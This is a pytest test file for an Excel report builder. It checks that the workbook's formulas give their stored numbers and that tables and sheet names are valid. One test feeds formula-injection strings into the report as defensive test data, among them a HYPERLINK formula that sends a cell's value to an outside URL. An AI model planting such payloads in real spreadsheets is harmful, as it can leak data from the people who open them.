"""The workbook: real tables and numbers, formulas with the number that they give, no text that becomes one."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from itertools import chain
from typing import Any

import openpyxl
import pytest

from builders.reports import hostile_report, report_of
from conftest import Finished
from nonagon.charts.section import Section, Table
from nonagon.charts.wording import amount
from nonagon.deliverables.cycle import Cycle
from nonagon.deliverables.effectiveness import effectiveness, step_state
from nonagon.deliverables.evidence import Deliverable, Estimate
from nonagon.deliverables.step4 import (
    Characteristic,
    CharacteristicsDeliverable,
    HouseCell,
    HouseRow,
    IdeaComparison,
    IdeaResult,
)
from nonagon.deliverables.step5 import OpportunitiesDeliverable, Opportunity, PlanLine
from nonagon.deliverables.step6 import ImprovementsDeliverable, PlanMonth, Project
from nonagon.deliverables.trace import trace
from nonagon.reports.excel import excel_report
from nonagon.reports.inputs import Audience, ReportInput, SignOff

Book = Any


@pytest.fixture(scope="module")
def small(small_cycle: Finished) -> ReportInput:
    return report_of(small_cycle.folder, small_cycle.run.out)


def opened(content: bytes, *, values: bool = False) -> Book:
    return openpyxl.load_workbook(io.BytesIO(content), data_only=values)


def texts(book: Book) -> list[str]:
    return [cell.value for sheet in book for row in sheet for cell in row if isinstance(cell.value, str)]


# --- a formula gives what stands beside it: evaluated here by an evaluator of its own


def formulas(content: bytes) -> list[tuple[str, str, Any, Callable[[], float]]]:
    """Every formula: sheet, formula, stored number, and its evaluation over the stored numbers of its sheet."""
    plain, stored = opened(content), opened(content, values=True)
    found = []
    for sheet in plain:
        numbers = stored[sheet.title]
        for cell in chain.from_iterable(sheet):
            if cell.data_type == "f":
                found.append(
                    (sheet.title, cell.value, numbers[cell.coordinate].value, _evaluation(cell.value, numbers))
                )
    return found


def _evaluation(formula: str, sheet: Any) -> Callable[[], float]:
    def cells(name: str) -> list[Any]:
        block = sheet[name.replace("$", "")]
        rows = block if isinstance(block, tuple) else ((block,),)
        return [cell.value for row in rows for cell in row]

    def held(name: str) -> list[float]:
        return [one for one in cells(name) if isinstance(one, int | float)]

    functions = {
        "C": lambda name: cells(name)[0] or 0,
        "SUM": lambda names: sum(held(names)),
        "MAX": lambda names: max(held(names)),
        "RANK": lambda value, names: 1 + sum(1 for one in held(names) if one > value),
        "SUMIF": lambda where, word, what: sum(
            amount for mark, amount in zip(cells(where), cells(what), strict=True) if mark == word
        ),
        "SUMPRODUCT": lambda one, other: sum(
            (a or 0) * (b or 0) for a, b in zip(cells(one), cells(other), strict=True)
        ),
    }
    cell = r"\$?[A-Z]{1,2}\$?\d+"
    code = re.sub(rf"(RANK\()({cell}),", r"\1C('\2'),", formula.lstrip("="))
    code = re.sub(rf"\b(SUM|MAX|RANK|SUMIF|SUMPRODUCT)\(([^()]*)({cell})\)", r"\1(\2\3)", code)
    code = re.sub(rf"(?<!')({cell}:{cell})", r"'\1'", code)
    code = re.sub(rf"(?<![':$A-Z0-9])({cell})(?![':\d])", r"C('\1')", code)
    # A single cell where a range is meant.
    code = re.sub(r"(SUM|MAX|SUMIF|SUMPRODUCT)\(C\(('[^']+')\)", r"\1(\2", code)
    code = re.sub(r"(RANK\([^,]+,|\"yes\",)C\(('[^']+')\)", r"\1\2", code)
    return lambda: eval(code, {"__builtins__": {}}, functions)


def assert_formulas_give_what_is_stored(content: bytes) -> set[str]:
    """The functions and operators that were met."""
    met = set()
    for sheet, formula, stored, evaluate in formulas(content):
        assert stored == pytest.approx(evaluate(), rel=1e-9, abs=1e-9), (sheet, formula)
        met |= set(re.findall(r"[A-Z]{3,}(?=\()|[-+*/]", formula))
    return met


def one_step(number: int, deliverable: Deliverable, *tables: Table) -> ReportInput:
    state = step_state(step=number, word="word", title="Title", criteria=(), begun=True)
    return ReportInput(
        cycle=Cycle(name="Cycle", organization="We"),
        sections=[Section(number, "Title", "Purpose.", tables)],
        deliverables={number: deliverable},
        effectiveness=effectiveness((state,)),
        trace=trace([deliverable]),
        versions=(),
    )


HOUSE = CharacteristicsDeliverable(
    # Weights by hand: 4 x 4.5/3 x 1.5 = 9, and 2 alone; importances 9x9 + 2x1 = 83 and 2x3 = 6 of 89.
    rows=(
        HouseRow(
            need="a",
            name="On time",
            importance=Estimate(value=4),
            now=3,
            target=4.5,
            improvement_ratio=1.5,
            sales_point=1.5,
            raw_weight=9,
            share=Estimate(value=9 / 11),
        ),
        HouseRow(need="b", name="Clean", importance=Estimate(value=2), raw_weight=2, share=Estimate(value=2 / 11)),
    ),
    characteristics=(
        Characteristic(id="x", name="Delay", unit="min", direction="lower", weight=Estimate(value=83), rank=1),
        Characteristic(id="y", name="Dirt", unit="share", direction="lower", weight=Estimate(value=6), rank=2),
    ),
    cells=(
        HouseCell(need="a", characteristic="x", strength=9),
        HouseCell(need="b", characteristic="x", strength=1),
        HouseCell(need="b", characteristic="y", strength=3),
    ),
    concepts=(
        IdeaComparison(
            id="i",
            datum="today",
            criteria=("pleasure", "cost"),
            weights=(3, 2),
            # By hand: 3x2 - 2x1 = 4, and 3x1 = 3 with the second mark open.
            ideas=(
                IdeaResult(id="s", name="Screens", marks=(2, -1), score=4, rank=1, chosen=True),
                IdeaResult(id="r", name="Reading", marks=(1, None), score=3, rank=2),
            ),
        ),
    ),
)


def test_the_house_of_quality_can_be_followed_in_formulas() -> None:
    content = excel_report(one_step(4, HOUSE))
    sheet, stored = opened(content)["House of Quality"], opened(content, values=True)["House of Quality"]
    found = {cell.value: stored[cell.coordinate].value for row in sheet for cell in row if cell.data_type == "f"}
    assert found == {
        "=B6*D6/C6*E6": 9,
        "=F6/SUM($F$6:$F$7)": pytest.approx(9 / 11),
        "=B7": 2,
        "=F7/SUM($F$6:$F$7)": pytest.approx(2 / 11),
        "=SUMPRODUCT($F$6:$F$7,H6:H7)": 83,
        "=H8/SUM($H$8:$I$8)": pytest.approx(83 / 89),
        "=RANK(H8,$H$8:$I$8)": 1,
        "=SUMPRODUCT($F$6:$F$7,I6:I7)": 6,
        "=I8/SUM($H$8:$I$8)": pytest.approx(6 / 89),
        "=RANK(I8,$H$8:$I$8)": 2,
    }
    assert assert_formulas_give_what_is_stored(content) >= {"SUMPRODUCT", "RANK", "SUM", "*", "/"}


def test_an_importance_by_another_arithmetic_stays_a_number() -> None:
    """With rows normalised by Lyman the sums are others; a formula that gives another number would lie."""
    other = HOUSE.characteristics[0].model_copy(update={"weight": Estimate(value=9.5)})
    house = HOUSE.model_copy(update={"characteristics": (other, HOUSE.characteristics[1])})
    sheet = opened(excel_report(one_step(4, house)))["House of Quality"]
    assert sheet["H8"].value == 9.5
    assert sheet["I8"].value == "=SUMPRODUCT($F$6:$F$7,I6:I7)"


def test_ideas_are_weighed_in_formulas() -> None:
    content = excel_report(one_step(4, HOUSE))
    sheet, stored = opened(content)["Ideas"], opened(content, values=True)["Ideas"]
    rows = {sheet.cell(row, 1).value: row for row in range(1, sheet.max_row + 1)}
    assert [stored.cell(rows[name], 4).value for name in ("Screens", "Reading")] == [4, 3]
    assert all(sheet.cell(rows[name], 4).value.startswith("=SUMPRODUCT(") for name in ("Screens", "Reading"))


MONEY = ImprovementsDeliverable(
    projects=(
        Project(id="a", name="Screens", opportunity="o", cost=70, selected=True),
        Project(id="b", name="Seats", opportunity="o", cost=100),
    ),
    # 20 before the first month; 20 + 15 - 5 = 30; 30 + 10 - 65 = -25.
    months=(
        PlanMonth(month="2025-05", planned=5, cost=5, funds=15, balance=30),
        PlanMonth(month="2025-06", planned=65, cost=65, funds=10, balance=-25, short=True),
    ),
    budget=90,
    currency="EUR",
)


def test_money_adds_up_month_by_month_in_formulas() -> None:
    content = excel_report(one_step(6, MONEY))
    sheet, stored = opened(content)["Plan and money"], opened(content, values=True)["Plan and money"]
    by_name = {sheet.cell(row, 1).value: row for row in range(1, sheet.max_row + 1) if sheet.cell(row, 1).value}
    assert stored.cell(by_name["before"], 5).value == 20
    assert [stored.cell(by_name[month], 5).value for month in ("2025-05", "2025-06")] == [30, -25]
    at = by_name["2025-06"]
    assert sheet.cell(at, 5).value == f"=E{at - 1}+D{at}-C{at}"
    assert stored.cell(by_name["Sum of all projects"], 3).value == 170
    assert stored.cell(by_name["Sum of those in the plan"], 3).value == 70
    assert stored.cell(by_name["Left of the budget"], 3).value == 20
    assert assert_formulas_give_what_is_stored(content) >= {"SUM", "SUMIF", "+", "-"}


def test_the_gap_to_the_best_and_the_budget_are_formulas() -> None:
    step5 = OpportunitiesDeliverable(
        opportunities=(
            Opportunity(id="a", need="a", name="On time", compared=3.5, gap_to_best=1.25, chosen=True),
            Opportunity(id="b", need="b", name="Clean", compared=4.75, gap_to_best=0),
        ),
        plan=(
            PlanLine(objective="o", opportunity="a", benefit=Estimate(value=60), budget=90),
            PlanLine(objective="o", opportunity="b", budget=10),
        ),
    )
    content = excel_report(one_step(5, step5))
    stored = opened(content, values=True)["Priorities"]
    assert [stored.cell(row, 6).value for row in (6, 7)] == [1.25, 0]
    last = next(row for row in range(1, stored.max_row + 1) if stored.cell(row, 1).value == "Sum")
    assert (stored.cell(last, 2).value, stored.cell(last, 5).value) == (60, 100)
    assert assert_formulas_give_what_is_stored(content) >= {"MAX", "SUM"}


def test_every_formula_of_a_whole_report_gives_what_is_stored(small: ReportInput) -> None:
    content = excel_report(small)
    assert assert_formulas_give_what_is_stored(content) >= {"SUMPRODUCT", "RANK", "MAX", "SUM", "SUMIF"}
    assert len(formulas(content)) > 30


# --- tables


def money_table(first: str) -> Table:
    columns = ((first, "text"), ("cost, EUR", "number"), ("worth today", "number"))
    return Table("Costs", columns, (("a", amount(1500), amount(1)), ("b", amount(250), amount(2))))  # type: ignore[arg-type]


def test_columns_of_money_have_their_sum_and_choices_have_none() -> None:
    adding = opened(excel_report(one_step(2, Deliverable(step=2), money_table("project"))))["2 word"]
    found = [cell.value for row in adding for cell in row if cell.data_type == "f"]
    # Title, mark, way back, purpose, state, a free row, caption, heads: the cells are in rows 9 and 10.
    assert found == ["=SUM($B$9:$B$10)"]
    choice = opened(excel_report(one_step(2, Deliverable(step=2), money_table("choice"))))["2 word"]
    assert [cell for row in choice for cell in row if cell.data_type == "f"] == []


def test_every_table_of_the_sections_is_a_real_table_of_numbers(small: ReportInput) -> None:
    book = opened(excel_report(small))
    for section in small.sections:
        expected = [getattr(block, "table", block) for block in section.blocks]
        filled = [table for table in expected if isinstance(table, Table) and table.rows]
        sheet = next(one for one in book if one.title.startswith(f"{section.step} "))
        shown = [[cell.value for cell in sheet[one.ref][0]] for one in sheet.tables.values()]
        for table in filled:
            assert any(len(head) >= len(table.columns) - 1 for head in shown), table.caption
        assert len(sheet.tables) >= len(filled)
    assert sum(isinstance(cell.value, int | float) for sheet in book for row in sheet for cell in row) > 500
    assert any(isinstance(cell.value, date) for sheet in book for row in sheet for cell in row)


def test_a_table_s_heads_stand_in_the_file_as_in_the_cells(small: ReportInput) -> None:
    """A spreadsheet calls a file broken where they differ, or where a name is there twice."""
    for report in (small, hostile_report("=1+1 \x07\n<b> [x]")):
        for sheet in opened(excel_report(report)):
            for table in sheet.tables.values():
                head = [cell.value for cell in sheet[table.ref][0]]
                assert head == [column.name for column in table.tableColumns]
                assert len({one.casefold() for one in head}) == len(head)
    names = [one for sheet in opened(excel_report(small)) for one in sheet.tables]
    assert len(set(names)) == len(names)


# --- nothing that is said becomes a formula, a link or a broken file


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org/?"&A1,"x")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "https://example.org",
        "internal:Sheet1!A1",
        "{=1+1}",
        "&L&\"Arial\"24 [x]:*?/\\ 'quoted' \x00\x07\x1b",
        "x" * 40_000,
    ],
)
def test_a_hostile_text_stays_a_text(text: str) -> None:
    mark = Audience(text[:100] or "x", date(2026, 11, 24))
    gates = {step: SignOff(text, waived=True, stale=text) for step in range(1, 10)}
    content = excel_report(hostile_report(text, audience=mark, sign_offs=gates))
    book = opened(content)
    written = [cell for sheet in book for row in sheet for cell in row if cell.data_type == "f"]
    own = re.compile(r"=(SUM\(\$[A-Z]\$\d+(:\$[A-Z]\$\d+)?\)|D\d+/E\d+)")
    assert [cell.value for cell in written if not own.fullmatch(cell.value)] == []
    links = [cell.hyperlink for sheet in book for row in sheet for cell in row if cell.hyperlink]
    assert all(link.target is None and link.location.split("!")[0].strip("'") in book.sheetnames for link in links)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not any("externalLink" in name for name in parts.namelist())
        assert not any(b"https://example.org" in parts.read(n) for n in parts.namelist() if n.endswith(".rels"))
    if len(text) < 100 and text.isprintable():
        assert texts(book).count(text) > 100


def test_sheets_have_names_that_a_spreadsheet_takes() -> None:
    for text in ("[a]:*?/\\'", "History", "x" * 50, ""):
        names = opened(excel_report(hostile_report(text or "x"))).sheetnames
        assert len({name.casefold() for name in names}) == len(names)
        assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)


# --- what is on it


def test_the_sheets_in_order(small: ReportInput) -> None:
    names = opened(excel_report(small)).sheetnames
    words = [f"{one.step} {one.word}" for one in small.effectiveness.steps]
    assert names[:11] == ["Contents", "Headlines", *words]
    assert names[-3:] == ["Trace", "Origins", "What went in"]
    assert {"House of Quality", "Priorities", "Plan and money"} <= set(names)


def test_every_origin_stands_with_its_data_version_filter_and_method(small: ReportInput) -> None:
    book = opened(excel_report(small))
    rows = [[cell.value or "" for cell in row] for row in book["Origins"].iter_rows(min_row=4)]
    by_reference = {row[0]: row for row in rows}
    assert len(by_reference) == sum(len(one.origins) for one in small.deliverables.values())
    for step, deliverable in small.deliverables.items():
        for place, origin in enumerate(deliverable.origins.values(), 1):
            row = by_reference[f"{step}.{place}"]
            assert row[2:6] == [origin.method, origin.variant, ", ".join(origin.data), origin.filter]
    # A reference beside a table leads to its row.
    sheet = book["3 needs"]
    led = [cell for row in sheet for cell in row if cell.hyperlink and "Origins" in str(cell.hyperlink.location)]
    assert led
    for cell in led:
        row_number = int(re.search(r"!A(\d+)", cell.hyperlink.location)[1])  # type: ignore[index]
        assert cell.value.endswith(f"[{book['Origins'].cell(row_number, 1).value}]")


def test_heads_stay_in_sight_and_the_mark_stands_on_every_sheet(small: ReportInput) -> None:
    from dataclasses import replace

    marked = replace(small, audience=Audience("Ann & Co", date(2026, 11, 24)))
    for sheet in opened(excel_report(marked)):
        assert sheet.freeze_panes == "A3"
        assert sheet["A2"].value == "Copy for Ann & Co, 2026-11-24"
        assert "Copy for Ann && Co, 2026-11-24" in sheet.oddFooter.left.text
        assert sheet["A1"].value


def test_the_same_input_gives_the_same_bytes(small: ReportInput) -> None:
    assert excel_report(small) == excel_report(small)
